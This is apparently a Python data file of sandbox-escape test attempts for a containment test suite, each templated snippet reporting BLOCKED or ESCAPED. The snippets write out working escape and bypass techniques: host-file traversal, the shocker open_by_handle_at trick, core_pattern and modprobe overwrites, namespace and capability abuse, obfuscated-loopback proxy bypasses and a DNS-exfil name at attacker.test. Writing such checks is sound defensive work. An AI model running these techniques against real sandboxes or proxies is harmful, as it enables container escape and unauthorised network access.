"""The escape and abuse suite's attempts, as data: each is Python a cell runs inside
the attacking sandbox, ending with one line `BLOCKED <detail>` or `ESCAPED <detail>`. test_escape.py
runs every one against each driver; test_escape_table.py checks docs/security.md's table against them.

Snippets are `string.Template`s: $GW_PORT (the gateway's port on the host), $VICTIM (the second
sandbox's id), $VICTIM_FILE (its workspace file's name), $HOME (the gateway's home), $MARKER_PATH and
$MARKER (a file on the host and its content), $ABSTRACT (an abstract unix socket the host listens on),
$UDP_PORT (a UDP socket on host 127.0.0.3), $HOST_SOCKETS (unix socket paths the host listens on under
the home), $HTTP and $HTTPS (the test services' ports on 127.0.0.3 and 127.0.0.4), $SECRET (a secret's
value the proxy holds for secure.test only)."""

PRELUDE = r'''
import ctypes, errno, glob, json, os, socket, ssl, struct, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
def verdict(blocked, why):
    print(("BLOCKED " if blocked else "ESCAPED ") + str(why)[:400].replace("\n", " "))
def attempt(fn, *a):
    """None and the result, or the exception."""
    try:
        return None, fn(*a)
    except Exception as e:
        return e, None
def all_fail(calls):
    """Blocked when every call raises; the first that does not is the escape."""
    errs = []
    for fn, *a in calls:
        e, r = attempt(fn, *a)
        if e is None:
            return verdict(False, f"{getattr(fn, '__name__', fn)}{tuple(a)!r} -> {r!r}")
        errs.append(f"{type(e).__name__}: {e}")
    verdict(True, "; ".join(errs))
def c_fails(name, *a):
    """A libc call that must fail (-1); its errno."""
    r = getattr(libc, name)(*a)
    return r == -1, (r, errno.errorcode.get(ctypes.get_errno(), ctypes.get_errno()))
def c_all_fail(calls):
    out = []
    for name, *a in calls:
        failed, info = c_fails(name, *a)
        if not failed:
            return verdict(False, f"{name} -> {info}")
        out.append(f"{name}: {info[1]}")
    verdict(True, "; ".join(out))
def child_all_fail(calls):
    """Like c_all_fail, each call in a forked child: single-threaded, as unshare(CLONE_NEWUSER) and
    CLONE_NEWNS need (from the kernel's threaded process Linux says EINVAL whatever the privileges)."""
    out = []
    for name, *a in calls:
        pid = os.fork()
        if pid == 0:
            r = getattr(libc, name)(*a)
            os._exit(0 if r != -1 else (ctypes.get_errno() or 255))
        code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
        if code == 0:
            return verdict(False, f"{name}{tuple(a)!r} succeeded")
        out.append(f"{name}{tuple(a)!r}: {errno.errorcode.get(code, code)}")
    verdict(True, "; ".join(out))
def read(path, n=200):
    with open(path, "rb") as f:
        return f.read(n)
def write(path, data=b"x"):
    with open(path, "wb") as f:
        return f.write(data)
def tcp(host, port, family=socket.AF_INET):
    with socket.socket(family) as s:
        s.settimeout(10)
        s.connect((host, port))
        s.sendall(b"GET /api HTTP/1.0\r\n\r\n")
        return s.recv(200)
PROXY = ("127.0.0.1", 3128)
def proxy_raw(data, until_close=True):
    """Bytes to the egress listener; its answer (to close, or to the end of the head)."""
    with socket.create_connection(PROXY, timeout=30) as s:
        s.sendall(data)
        got = b""
        while chunk := s.recv(65536):
            got += chunk
            if not until_close and b"\r\n\r\n" in got:
                break
    return got.decode(errors="replace")
def connect(target):
    return proxy_raw(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode(), until_close=False)
def refused(answer):
    return answer.startswith("HTTP/1.1 403") or answer.startswith("HTTP/1.1 400") or answer == ""
def tls_via(target, sni, requests):
    """CONNECT target, TLS with this SNI (trusting the proxy's CA), then each raw request on that one
    connection; the answers' heads and bodies, joined."""
    s = socket.create_connection(PROXY, timeout=30)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(1)
        if not chunk:
            return head.decode(errors="replace")
        head += chunk
    if not head.startswith(b"HTTP/1.1 200"):
        return head.decode(errors="replace")
    ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    ctx.check_hostname = False
    t = ctx.wrap_socket(s, server_hostname=sni)
    out = []
    with t:
        for req in requests:
            t.sendall(req.encode())
            got = b""
            while True:
                chunk = t.recv(65536)
                if not chunk:
                    break
                got += chunk
                h, _, body = got.partition(b"\r\n\r\n")
                if _ and b"content-length:" in h.lower():
                    n = int(h.lower().split(b"content-length:")[1].split(b"\r\n")[0])
                    if len(body) >= n:
                        break
            out.append(got.decode(errors="replace"))
            if not got or b"connection: close" in got.lower():
                break
    return "\n---\n".join(out)
def get(host_header, path="/"):
    return f"GET {path} HTTP/1.1\r\nHost: {host_header}\r\n\r\n"
def plain(url, host_header):
    return proxy_raw(f"GET {url} HTTP/1.1\r\nHost: {host_header}\r\nConnection: close\r\n\r\n".encode())
def fetch(url):
    """urllib through the proxy the environment names (redirects followed by the client)."""
    import urllib.request, urllib.error
    ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    opener = urllib.request.build_opener(urllib.request.HTTPSHandler(context=ctx))
    try:
        with opener.open(url, timeout=30) as r:
            return f"{r.status} {r.read().decode(errors='replace')}"
    except urllib.error.HTTPError as e:
        return f"{e.code} {e.read().decode(errors='replace')}"
    except urllib.error.URLError as e:  # a refused CONNECT, or nothing listening
        return f"refused {e}"
def listening_unix_paths():
    paths = []
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        f = line.split()
        if len(f) >= 8 and f[5] == "01" and f[7].startswith("/"):  # state listening (01), a path
            paths.append(f[7])
    return paths
'''

NETLINK = r'''
def netlink_ack(msg_type, flags, payload):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)  # NETLINK_ROUTE
    with s:
        s.bind((0, 0))
        hdr = struct.pack("=LHHLL", 16 + len(payload), msg_type, flags, 1, 0)
        s.sendto(hdr + payload, (0, 0))
        data = s.recv(65536)
        return struct.unpack("=i", data[16:20])[0]  # the ack's error: 0 is success
def attr(kind, data):
    n = 4 + len(data)
    return struct.pack("=HH", n, kind) + data + b"\0" * ((4 - n % 4) % 4)
REQ, ACK, EXCL, CREATE = 1, 4, 0x200, 0x400
'''

# (id, category, snippet). Categories are docs/security.md's table rows.
HOST = "host files and other sandboxes' workspaces"
LOOP = "the gateway port and host loopback services"
SOCK = "raw, netlink, packet, vsock and unix sockets"
PROXY = "egress proxy bypasses"
PRIV = "ptrace, mount, modules, unshare, setuid, capabilities"
AGENT = "the agent's stream and forged frames"

ATTEMPTS = [
    # -- host files and other sandboxes' workspaces -------------------------------------------------
    ("host-marker-by-path", HOST, 'all_fail([(read, "$MARKER_PATH"), (read, "/proc/1/root$MARKER_PATH")])'),
    ("victim-by-host-path", HOST,
     'all_fail([(read, "$HOME/workspaces/$VICTIM/$VICTIM_FILE"), (read, "$HOME/workspaces/$VICTIM.img"),\n'
     '          (os.listdir, "$HOME/workspaces")])'),
    ("victim-by-dotdot", HOST,
     'all_fail([(read, "/workspace/../$VICTIM/$VICTIM_FILE"), (read, "/workspace/../../workspaces/$VICTIM/$VICTIM_FILE"),\n'
     '          (read, "../$VICTIM/$VICTIM_FILE"), (read, "/workspace/../../../..$HOME/workspaces/$VICTIM/$VICTIM_FILE")])'),
    ("victim-by-proc-root", HOST,
     'all_fail([(read, "/proc/1/root$HOME/workspaces/$VICTIM/$VICTIM_FILE"),\n'
     '          (read, "/proc/self/root/../../..$HOME/workspaces/$VICTIM/$VICTIM_FILE"),\n'
     '          (read, "/proc/self/cwd/../$VICTIM/$VICTIM_FILE")])'),
    ("symlink-to-host-paths", HOST, r'''
for name, target in (("l-marker", "$MARKER_PATH"), ("l-victim", "$HOME/workspaces/$VICTIM/$VICTIM_FILE"),
                     ("l-dotdot", "../$VICTIM/$VICTIM_FILE")):
    if os.path.lexists("/workspace/" + name):
        os.unlink("/workspace/" + name)
    os.symlink(target, "/workspace/" + name)
all_fail([(read, "/workspace/l-marker"), (read, "/workspace/l-victim"), (read, "/workspace/l-dotdot")])
'''),
    ("find-victim-or-marker-anywhere", HOST, r'''
import time
names, seen, deadline = {"$VICTIM_FILE", "$MARKER_NAME"}, [], time.monotonic() + 90
skip = {"/proc", "/sys", "/dev", "/usr/lib", "/usr/share", "/usr/include", "/usr/local/lib", "/workspace"}
for root, dirs, files in os.walk("/", onerror=lambda e: None):
    dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip]
    seen += [os.path.join(root, f) for f in files if f in names] + [os.path.join(root, d) for d in dirs if d == "$VICTIM"]
    if time.monotonic() > deadline:
        break
verdict(not seen and time.monotonic() <= deadline, seen or "walked the file system: neither is there")
'''),
    ("victim-id-in-mounts-or-processes", HOST, r'''
blob = b""
for p in ["/proc/self/mountinfo", "/proc/mounts"] + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
    try:
        blob += read(p, 1 << 20)
    except OSError:
        pass
verdict(b"$VICTIM" not in blob and b"$MARKER" not in blob, "neither the second sandbox's id nor the host marker")
'''),
    ("host-processes-visible", HOST, r'''
found = []
for p in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        c = read(p, 4096)
    except OSError:
        continue
    if any(w in c for w in (b"sandgate.cli", b"runsc", b"qemu-system", b"pytest", b"mitmproxy")):
        found.append(c[:80])
verdict(not found, found or "no host process in /proc")
'''),
    ("open-by-handle-shocker", HOST, r'''
# CVE-2014-3519's shocker: open_by_handle_at with a forged handle for the file system's root inode.
fd = os.open("/workspace", os.O_RDONLY)
handle = struct.pack("=Ii", 8, 1) + struct.pack("=II", 2, 0)  # handle_bytes 8, FILEID_INO32_GEN: inode 2
buf = ctypes.create_string_buffer(handle)
r = libc.syscall(304, fd, buf, os.O_RDONLY)  # open_by_handle_at
verdict(r == -1, (r, errno.errorcode.get(ctypes.get_errno())))
'''),
    ("write-read-only-root-and-agent-code", HOST,
     'all_fail([(write, "/etc/passwd"), (write, "/usr/bin/python3"), (write, glob.glob("/opt/sandgate/*/agent.py")[0]\n'
     '           if glob.glob("/opt/sandgate/*/agent.py") else "/opt/sandgate/x"), (write, "/usr/lib/sg-new")])'),
    ("block-and-memory-devices", HOST,
     'all_fail([(read, p) for p in ["/dev/vda", "/dev/vdb", "/dev/vdc", "/dev/sda", "/dev/mem", "/dev/kmem", "/dev/port",\n'
     '          "/dev/kmsg"] if os.path.exists(p)] or [(read, "/dev/vda")])'),
    ("hardlink-out-of-the-workspace", HOST,
     'all_fail([(os.link, "/etc/shadow", "/workspace/hl-shadow"), (os.link, "/workspace", "/tmp/hl-ws"),\n'
     '          (os.link, "/proc/1/exe", "/workspace/hl-exe")])'),

    # -- the gateway port and host loopback services -------------------------------------------------
    ("gateway-port-on-127.0.0.1", LOOP, 'all_fail([(tcp, "127.0.0.1", $GW_PORT)])'),
    ("gateway-port-on-::1", LOOP, 'all_fail([(tcp, "::1", $GW_PORT, socket.AF_INET6)])'),
    ("gateway-port-on-0.0.0.0", LOOP, 'all_fail([(tcp, "0.0.0.0", $GW_PORT)])'),
    ("gateway-port-v4-mapped", LOOP, 'all_fail([(tcp, "::ffff:127.0.0.1", $GW_PORT, socket.AF_INET6)])'),
    ("test-service-127.0.0.3", LOOP, 'all_fail([(tcp, "127.0.0.3", $HTTP)])'),
    ("test-service-127.0.0.4", LOOP, 'all_fail([(tcp, "127.0.0.4", $HTTPS)])'),
    ("udp-to-host-127.0.0.3", LOOP, r'''
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
e, _ = attempt(s.sendto, b"$MARKER-udp", ("127.0.0.3", $UDP_PORT))
verdict(True, f"sent: {e or 'inside only'} (the host checks its socket)")
'''),
    ("host-unix-sockets-by-path", LOOP, r'''
paths = $HOST_SOCKETS
def unix(p):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(5)
        s.connect(p)
all_fail([(unix, p) for p in paths] or [(unix, "/nonexistent")])
'''),
    ("host-abstract-unix-socket", LOOP, r'''
def unix(p):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(5)
        s.connect(p)
all_fail([(unix, "\0$ABSTRACT")])
'''),
    ("no-interface-but-lo-no-route", LOOP, r'''
names = sorted(n for _, n in socket.if_nameindex())
routes = [l for l in open("/proc/net/route").read().splitlines()[1:] if l.strip()] if os.path.exists("/proc/net/route") else []
verdict(names == ["lo"] and all(l.split()[0] == "lo" for l in routes), (names, routes))
'''),
    ("host-listeners-not-visible", LOOP, r'''
ports = set()
for f in ("/proc/net/tcp", "/proc/net/tcp6"):
    if os.path.exists(f):
        for line in open(f).read().splitlines()[1:]:
            ports.add(int(line.split()[1].rsplit(":", 1)[1], 16))
verdict($GW_PORT not in ports and $HTTP not in ports, sorted(ports))
'''),

    # -- raw, netlink, packet, vsock and unix sockets -------------------------------------------------
    ("packet-socket", SOCK, 'all_fail([(socket.socket, socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)),\n'
                            '          (socket.socket, socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))])'),
    ("raw-ipv4-socket", SOCK, 'all_fail([(socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),\n'
                              '          (socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),\n'
                              '          (socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)])'),
    ("raw-ipv6-socket", SOCK, 'all_fail([(socket.socket, socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),\n'
                              '          (socket.socket, socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)])'),
    ("netlink-create-a-link", SOCK, NETLINK + r'''
info = attr(18, attr(1, b"dummy\0"))  # IFLA_LINKINFO { IFLA_INFO_KIND "dummy" }
body = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + attr(3, b"sg0\0") + info  # ifinfomsg, IFLA_IFNAME
e, err = attempt(netlink_ack, 16, REQ | ACK | CREATE | EXCL, body)  # RTM_NEWLINK
verdict(e is not None or err != 0, e or errno.errorcode.get(-err, err))
'''),
    ("netlink-set-lo-down", SOCK, NETLINK + r'''
body = struct.pack("=BxHiII", 0, 0, 1, 0, 1)  # ifindex 1 (lo), flags 0, change IFF_UP
e, err = attempt(netlink_ack, 16, REQ | ACK, body)  # RTM_NEWLINK
up = open("/sys/class/net/lo/operstate").read().strip() if os.path.exists("/sys/class/net/lo/operstate") else "?"
verdict((e is not None or err != 0), (e or errno.errorcode.get(-err, err), up))
'''),
    ("netlink-add-an-address", SOCK, NETLINK + r'''
body = struct.pack("=BBBBI", 2, 8, 0, 0, 1) + attr(2, socket.inet_aton("127.0.0.99"))  # ifaddrmsg on lo, IFA_LOCAL
e, err = attempt(netlink_ack, 20, REQ | ACK | CREATE | EXCL, body)  # RTM_NEWADDR
verdict(e is not None or err != 0, e or errno.errorcode.get(-err, err))
'''),
    ("vsock-to-the-host", SOCK, r'''
def vsock(cid, port):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
        s.settimeout(10)
        s.connect((cid, port))
all_fail([(vsock, 2, $GW_PORT), (vsock, 2, 1024), (vsock, 2, 22)])
'''),
    ("vsock-to-the-agent-port-locally", SOCK, r'''
def vsock(cid, port):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
        s.settimeout(10)
        s.connect((cid, port))
        return s.recv(64)  # an agent would send its ready frame
all_fail([(vsock, 1, 1024), (vsock, 3, 1024), (vsock, 0xFFFFFFFF, 1024)])
'''),
    ("unix-sockets-inside-speak-no-agent-protocol", SOCK, r'''
# Every listening unix socket inside: none may answer an agent request frame.
def probe(p):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(3)
        s.connect(p)
        h = json.dumps({"type": "request", "id": 1, "op": "ping", "args": {}}).encode()
        s.sendall(struct.pack(">II", len(h), 0) + h)
        try:
            return s.recv(4096)
        except socket.timeout:
            return b""
answers = {}
for p in listening_unix_paths():
    e, r = attempt(probe, p)
    if r and (b"response" in r or b"ready" in r):
        answers[p] = r[:100]
verdict(not answers, answers or f"probed {listening_unix_paths()}")
'''),
    ("socket-families-needing-privilege", SOCK, r'''
fams = [(15, socket.SOCK_RAW, 2)]  # AF_KEY (PF_KEY_V2): CAP_NET_ADMIN
if hasattr(socket, "AF_CAN"):
    fams.append((socket.AF_CAN, socket.SOCK_RAW, 1))
fams.append((17, socket.SOCK_RAW, 0))  # AF_PACKET by number
all_fail([(socket.socket, *f) for f in fams])
'''),

    # -- egress proxy bypasses ------------------------------------------------------------------------
    ("no-resolver-inside", PROXY, 'all_fail([(socket.getaddrinfo, "secure.test", 443), (socket.getaddrinfo, "plain.test", 80),\n'
                                  '          (socket.getaddrinfo, "lo.evil.test", 80)])'),
    ("direct-to-allowed-upstream-without-proxy", PROXY, 'all_fail([(tcp, "127.0.0.4", $HTTPS), (tcp, "::ffff:127.0.0.4", $HTTPS, socket.AF_INET6)])'),
    ("dns-exfil-name-refused-unresolved", PROXY, r'''
a = connect("exfil-$MARKER.attacker.test:443")
verdict(refused(a) and "no allow rule" in a, a[:200])
'''),
    ("connect-disallowed-host", PROXY, 'a = connect("other.test:$HTTPS")\nverdict(refused(a), a[:200])'),
    ("connect-deny-rule-beats-wildcard", PROXY, 'a = connect("deny.evil.test:$HTTPS")\nverdict(refused(a) and "denied" in a, a[:200])'),
    ("connect-allowed-name-other-port", PROXY, 'a = connect("secure.test:$HTTP")\nverdict(refused(a), a[:200])'),
    ("connect-allowed-name-port-443", PROXY, 'a = connect("secure.test:443")\nverdict(refused(a), a[:200])'),
    ("connect-allowed-literal-other-port", PROXY, 'a = connect("127.0.0.4:$HTTP")\nverdict(refused(a), a[:200])'),
    ("connect-gateway-port", PROXY, 'a = connect("127.0.0.1:$GW_PORT")\nverdict(refused(a), a[:200])'),
    ("connect-localhost-gateway-port", PROXY, 'a = connect("localhost:$GW_PORT")\nverdict(refused(a), a[:200])'),
    ("absolute-form-to-gateway-api", PROXY,
     'a = plain("http://127.0.0.1:$GW_PORT/api", "127.0.0.1:$GW_PORT")\nverdict(a.startswith("HTTP/1.1 403") and "version" not in a, a[:200])'),
    ("connect-ipv6-loopback", PROXY, 'a = connect("[::1]:$GW_PORT")\nverdict(refused(a), a[:200])'),
    ("connect-ipv4-mapped", PROXY, 'a = connect("[::ffff:127.0.0.3]:$HTTP")\nverdict(refused(a), a[:200])'),
    ("connect-ipv4-mapped-hex", PROXY, 'a = connect("[::ffff:7f00:3]:$HTTP")\nverdict(refused(a), a[:200])'),
    ("connect-ipv4-compatible", PROXY, 'a = connect("[::127.0.0.4]:$HTTPS")\nverdict(refused(a), a[:200])'),
    ("connect-nat64", PROXY, 'a = connect("[64:ff9b::7f00:4]:$HTTPS")\nverdict(refused(a), a[:200])'),
    ("connect-ipv6-link-local-scoped", PROXY, 'a = connect("[fe80::1%lo]:$HTTP")\nverdict(refused(a), a[:200])'),
    ("connect-decimal-ipv4", PROXY, 'a = connect("2130706436:$HTTPS")\nverdict(refused(a), a[:200])'),
    ("connect-octal-hex-short-ipv4", PROXY,
     'a = [connect(t) for t in ("0177.0.0.4:$HTTPS", "0x7f.0.0.4:$HTTPS", "127.4:$HTTPS", "0x7f000004:$HTTPS")]\n'
     'verdict(all(refused(x) for x in a), [x[:80] for x in a])'),
    ("connect-metadata-literal", PROXY, 'a = connect("169.254.169.254:80")\nverdict(refused(a), a[:200])'),
    # Names an operator's hosts table resolves to addresses the proxy must refuse, though a rule allows the name.
    *[(f"name-resolving-to-{kind}", PROXY,
       f'a = plain("http://{name}.evil.test:$HTTP/", "{name}.evil.test:$HTTP")\n'
       f'verdict(a.startswith("HTTP/1.1 403") and "refused" in a, a[:200])')
      for kind, name in (("loopback", "lo"), ("loopback-service", "lo3"), ("metadata", "meta"), ("private", "priv"),
                         ("unspecified", "zero"), ("cgnat", "cgnat"), ("documentation", "doc"),
                         ("ipv4-mapped", "mapped"), ("ipv6-loopback", "v6lo"), ("nat64", "nat64"),
                         ("6to4", "sixto4"), ("ipv6-link-local", "ll6"), ("ipv6-ula", "ula"),
                         ("ipv6-metadata", "metav6"))],
    ("name-resolving-to-loopback-over-tls", PROXY,
     'a = tls_via("lo3.evil.test:$HTTPS", "lo3.evil.test", [get("lo3.evil.test:$HTTPS")])\n'
     'verdict("403" in a.split("\\n")[0] and "loopback" in a, a[:200])'),
    ("sni-mismatch", PROXY,
     'a = tls_via("secure.test:$HTTPS", "other.test", [get("secure.test:$HTTPS")])\n'
     'verdict("403" in a.split("\\n")[0] and "path" not in a, a[:200])'),
    ("host-header-mismatch", PROXY,
     'a = tls_via("secure.test:$HTTPS", "secure.test", [get("other.test:$HTTPS")])\n'
     'verdict("403" in a.split("\\n")[0] and "path" not in a, a[:200])'),
    ("host-header-gateway-in-tunnel", PROXY,
     'a = tls_via("secure.test:$HTTPS", "secure.test", [get("127.0.0.1:$GW_PORT", "/api")])\n'
     'verdict("403" in a.split("\\n")[0] and "version" not in a, a[:200])'),
    ("second-request-on-kept-alive-tunnel", PROXY,
     'a = tls_via("secure.test:$HTTPS", "secure.test", [get("secure.test:$HTTPS"), get("other.test:$HTTPS")])\n'
     'first, _, second = a.partition("\\n---\\n")\n'
     'verdict(first.startswith("HTTP/1.1 200") and (second == "" or second.startswith("HTTP/1.1 403")), (first[:40], second[:120]))'),
    ("absolute-form-host-mismatch", PROXY,
     'a = plain("http://secure.test:$HTTPS/", "other.test")\nverdict(refused(a) and "path" not in a, a[:200])'),
    ("absolute-form-userinfo-trick", PROXY,
     'a = plain("http://secure.test:$HTTPS@127.0.0.1:$GW_PORT/api", "secure.test:$HTTPS")\n'
     'verdict(refused(a) and "version" not in a, a[:200])'),
    ("redirect-to-disallowed-host", PROXY,
     'a = fetch("https://secure.test:$HTTPS/redirect?https://other.test:$HTTPS/x")\n'
     'verdict(not a.startswith("200") and "path" not in a, a[:200])'),
    ("redirect-to-the-gateway", PROXY,
     'a = fetch("https://secure.test:$HTTPS/redirect?http://lo.evil.test:$GW_PORT/api")\n'
     'verdict(a.startswith("403") and "loopback" in a and "version" not in a, a[:200])'),
    ("non-http-bytes-in-a-tunnel", PROXY, r'''
s = socket.create_connection(PROXY, timeout=30)
s.sendall(b"CONNECT secure.test:$HTTPS HTTP/1.1\r\nHost: secure.test:$HTTPS\r\n\r\n")
head = s.recv(4096)
s.sendall(b"SSH-2.0-OpenSSH_9.0\r\n" + b"\0" * 64)
s.shutdown(socket.SHUT_WR)
got = b""
while chunk := s.recv(4096):
    got += chunk
verdict(b"SSH" not in got and b"path" not in got, (head[:30], got[:120]))
'''),
    ("secret-sent-to-another-host", PROXY,
     'a = fetch("https://secure.test:$HTTPS/redirect?https://lo3.evil.test:$HTTPS/")\n'
     'b = plain("http://secure.test:$HTTPS/", "secure.test:$HTTPS")\n'
     'verdict("$SECRET" not in a and "$SECRET" not in b, (a[:80], b[:80]))'),

    # -- ptrace, mount, modules, unshare, setuid, capabilities -----------------------------------------
    ("ptrace-the-agent", PRIV, 'c_all_fail([("ptrace", 16, 1, 0, 0), ("ptrace", 0x4206, 1, 0, 0)])  # ATTACH, SEIZE'),
    ("process-vm-readv-the-agent", PRIV, r'''
buf = ctypes.create_string_buffer(64)
iov = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 64)
remote = (ctypes.c_void_p * 2)(0x400000, 64)
r = libc.syscall(310, 1, iov, 1, remote, 1, 0)
verdict(r == -1, (r, errno.errorcode.get(ctypes.get_errno())))
'''),
    ("signal-the-agent", PRIV, 'all_fail([(os.kill, 1, 9), (os.kill, 1, 19)])'),
    ("agent-memory-root-cwd-exe", PRIV, 'all_fail([(read, "/proc/1/mem"), (os.listdir, "/proc/1/root/"), (os.listdir, "/proc/1/cwd/"),\n'
                                        '          (read, "/proc/1/exe"), (os.readlink, "/proc/1/exe")])'),
    ("agent-process-info", PRIV, r'''
# The whole class, not three paths: every file and link under the agent's /proc/<pid>/ and
# /proc/<pid>/task/<tid>/, and /proc/<tid>/ of each of its threads (found by number; they are not listed).
# The agent is whichever process runs sandgate_agent.agent, and pid 1 whatever it runs if its cmdline
# cannot be read; none found (a /proc that does not show the agent) is the safe outcome.
# Not net/: the network namespace's files, which /proc/net shows anyway.
agents = []
for p in sorted(set(os.listdir("/proc")) | {"1"}):
    if p.isdigit():
        e, cmd = attempt(read, f"/proc/{p}/cmdline")
        if (e is None and b"sandgate_agent.agent" in cmd) or (e is not None and p == "1" and os.path.exists("/proc/1")):
            agents.append(p)
bases = []
for pid in agents:
    try:
        tids = os.listdir(f"/proc/{pid}/task")
    except OSError:
        tids = [pid]
    bases += [f"/proc/{pid}"] + [f"/proc/{pid}/task/{t}" for t in tids] + [f"/proc/{t}" for t in tids if t != pid]
seen = []
for base in bases:
    for root, dirs, files in os.walk(base, onerror=lambda e: None):
        links = [d for d in dirs if os.path.islink(os.path.join(root, d))]  # cwd, root: read, not walked
        dirs[:] = [d for d in dirs if d not in ("net", "task") and d not in links]
        for name in files + links:
            p = os.path.join(root, name)
            e, r = attempt(os.readlink if os.path.islink(p) else read, p)
            if e is None:
                seen.append(p)
verdict(not seen, f"{len(seen)} readable: {sorted(set(p.rsplit('/', 1)[1] for p in seen))}" if seen
        else f"none readable of the agent's {agents}" if agents else "the agent is not in this /proc")
'''),
    ("mount-tmpfs-proc-bind", PRIV, r'''
os.makedirs("/tmp/m", exist_ok=True)
c_all_fail([("mount", b"none", b"/tmp/m", b"tmpfs", 0, None), ("mount", b"proc", b"/tmp/m", b"proc", 0, None),
            ("mount", b"/", b"/tmp/m", None, 4096, None),  # MS_BIND
            ("mount", None, b"/", None, 32 | 4096, None)])  # MS_REMOUNT|MS_BIND: a read-write root
'''),
    ("load-a-kernel-module", PRIV, r'''
mod = b"\x7fELF" + b"\0" * 60
fd = os.open("/workspace/x.ko", os.O_CREAT | os.O_WRONLY | os.O_TRUNC)
os.write(fd, mod)
os.close(fd)
fd = os.open("/workspace/x.ko", os.O_RDONLY)
a = libc.syscall(175, mod, len(mod), b"")  # init_module
ea = ctypes.get_errno()
b = libc.syscall(313, fd, b"", 0)  # finit_module
eb = ctypes.get_errno()
verdict(a == -1 and b == -1 and ea != errno.ENOEXEC and eb != errno.ENOEXEC,
        (errno.errorcode.get(ea), errno.errorcode.get(eb)))
'''),
    ("kernel-knobs-in-proc-sys", PRIV, 'all_fail([(write, "/proc/sys/kernel/modprobe", b"/workspace/pwn"),\n'
                                       '          (write, "/proc/sys/kernel/core_pattern", b"|/workspace/pwn"),\n'
                                       '          (write, "/proc/sysrq-trigger", b"h"), (write, "/sys/kernel/uevent_helper", b"/x"),\n'
                                       '          (write, "/proc/sys/user/max_user_namespaces", b"100")])'),
    ("unshare-user-namespace", PRIV, 'child_all_fail([("unshare", 0x10000000)])  # CLONE_NEWUSER'),
    ("unshare-net-pid-ipc-uts-namespaces", PRIV,
     'child_all_fail([("unshare", 0x40000000), ("unshare", 0x20000000), ("unshare", 0x08000000), ("unshare", 0x04000000)])'),
    ("unshare-mount-cgroup-namespaces", PRIV, 'child_all_fail([("unshare", 0x00020000), ("unshare", 0x02000000)])'),
    ("user-namespace-then-mount", PRIV, r'''
# unshare(1)'s way, then by hand: a user and a mount namespace, root mapped, a tmpfs mounted (what Linux
# allows in a user namespace, and why those are attack surface).
p = subprocess.run(["unshare", "-Urm", "true"], capture_output=True, text=True, timeout=60)
os.makedirs("/tmp/um", exist_ok=True)
pid = os.fork()
if pid == 0:
    step = 10
    try:
        if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
            step = 20
            uid = os.getuid()
            for f, line in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {uid} 1")):
                try:
                    write(f"/proc/self/{f}", line.encode())
                except OSError:
                    pass
            step = 30 if libc.mount(b"none", b"/tmp/um", b"tmpfs", 0, None) == 0 else 25
    finally:
        os._exit(step)
step = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
verdict(p.returncode != 0 and step != 30, (p.returncode, p.stderr[-100:], {10: "no user namespace", 20: "?",
        25: "user and mount namespace made, mount refused", 30: "mounted a tmpfs"}.get(step, step)))
'''),
    ("setns-into-the-agents-namespaces", PRIV, r'''
def setns(path):
    fd = os.open(path, os.O_RDONLY)
    try:
        if libc.setns(fd, 0) == -1:
            raise OSError(ctypes.get_errno(), "setns")
    finally:
        os.close(fd)
p = subprocess.run(["nsenter", "-t", "1", "-m", "-u", "-n", "true"], capture_output=True, text=True, timeout=60)
all_fail([(setns, "/proc/1/ns/mnt"), (setns, "/proc/1/ns/net"), (setns, "/proc/1/ns/pid")] if p.returncode else [(lambda: "nsenter ran", )])
'''),
    ("setuid-root", PRIV, 'all_fail([(os.setuid, 0), (os.setgid, 0), (os.setresuid, 0, 0, 0), (os.setgroups, [0])])'),
    ("capabilities-raise", PRIV, r'''
hdr = struct.pack("=Ii", 0x20080522, 0)  # _LINUX_CAPABILITY_VERSION_3, this process
data = struct.pack("=6I", *([0xFFFFFFFF] * 6))
r = libc.capset(hdr, data)
err = ctypes.get_errno()
st = dict(l.split(":\t", 1) for l in open("/proc/self/status").read().splitlines() if ":\t" in l)
caps = {k: int(st[k], 16) for k in ("CapInh", "CapPrm", "CapEff", "CapAmb") if k in st}
verdict(r == -1 and not any(caps.values()), (errno.errorcode.get(err), caps))
'''),
    ("chroot-mknod-reboot-ioperm", PRIV, r'''
import stat
os.makedirs("/tmp/cr", exist_ok=True)
# A block device node: where mknod succeeds (gVisor's tmpfs), the node must open nothing.
nodes = []
for path in ("/tmp/cr/sda", "/dev/shm/sg-sda", "/workspace/sg-sda"):
    if libc.mknod(path.encode(), stat.S_IFBLK | 0o600, os.makedev(8, 0)) == 0:
        nodes.append(path)
opened = [p for p in nodes if attempt(read, p)[0] is None]
for p in nodes:
    os.unlink(p)
if opened:
    verdict(False, f"block device read through {opened}")
else:
